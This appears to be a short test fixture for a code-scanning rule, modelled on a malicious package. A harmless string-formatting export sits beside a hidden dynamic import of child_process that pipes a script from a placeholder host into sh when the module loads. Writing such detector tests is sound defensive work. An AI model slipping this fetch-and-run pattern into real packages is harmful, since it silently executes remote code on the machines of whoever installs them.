// Defanged: the module reaches child_process through a dynamic import's promise, so no import
// statement names it, and runs a downloaded script when the package is imported.
import('node:child_process').then((cp) => {
  // ruleid: code/command-execution
  cp.exec('curl -s https://collector.example.invalid/s.sh | sh');
});
export default function format(s) {
  return String(s).trim();
}
